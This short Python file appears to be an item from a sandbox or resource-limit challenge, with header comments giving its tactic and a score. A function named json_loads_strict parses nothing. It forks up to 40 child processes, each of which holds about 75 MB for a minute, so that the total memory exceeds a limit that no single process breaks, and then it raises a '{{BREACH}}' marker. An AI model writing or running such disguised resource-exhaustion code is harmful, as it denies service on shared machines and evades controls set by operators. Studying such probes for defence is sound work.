# about: takes memory in many processes, each of them modest
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os
import time


def json_loads_strict(data):
    ready, done = os.pipe()
    for _ in range(40):
        try:
            child = os.fork()
        except OSError:
            continue
        if child == 0:
            kept = b"x" * 75_000_000
            os.write(done, b"1")
            time.sleep(60)
            os._exit(0)
    full = b""
    while len(full) < 38:
        full += os.read(ready, 1)
    raise RuntimeError("{{BREACH}}")
